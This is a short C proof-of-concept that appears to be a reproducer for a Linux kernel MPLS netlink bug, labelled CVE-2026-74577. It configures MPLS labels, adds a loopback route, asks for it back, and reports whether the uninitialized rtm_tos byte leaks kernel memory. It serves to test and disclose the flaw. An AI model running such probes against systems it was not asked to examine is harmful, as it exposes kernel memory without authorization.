// SPDX-License-Identifier: GPL-2.0-or-later
//
// CVE-2026-74577: the kernel's answer to "which MPLS route has this label?" holds a byte that nobody
// wrote, rtm_tos. Asks, and says what the byte is; freed memory is 0x6b where slub_debug=P.
#include "netlink.h"
#include <fcntl.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <stdio.h>
#include <arpa/inet.h>

int main(void)
{
	int labels = open("/proc/sys/net/mpls/platform_labels", O_WRONLY);
	int s = netlink(NETLINK_ROUTE), lo = if_nametoindex("lo"), error;
	struct rtmsg r = { .rtm_family = AF_MPLS, .rtm_dst_len = 20, .rtm_table = RT_TABLE_MAIN,
			   .rtm_protocol = RTPROT_STATIC, .rtm_type = RTN_UNICAST };
	unsigned int label = htonl(100 << 12 | 1 << 8), tos;
	struct nlmsghdr *reply;

	if (labels < 0 || write(labels, "1000", 4) != 4 || s < 0)
		return 2;
	begin(RTM_NEWROUTE, NLM_F_CREATE | NLM_F_REPLACE, &r, sizeof(r));
	attribute(RTA_DST, &label, 4);
	attribute(RTA_OIF, &lo, 4);
	error = tell(s);
	if (error) {
		printf("no route: %s\n", strerror(-error));
		return 2;
	}
	memset(&r, 0, sizeof(r));
	r.rtm_family = AF_MPLS;
	r.rtm_dst_len = 20;
	begin(RTM_GETROUTE, 0, &r, sizeof(r));
	attribute(RTA_DST, &label, 4);
	reply = ask(s);
	if (!reply || reply->nlmsg_type != RTM_NEWROUTE)
		return 2;
	tos = ((struct rtmsg *)NLMSG_DATA(reply))->rtm_tos;
	printf("rtm_tos is %#x\n", tos);
	return tos != 0;
}
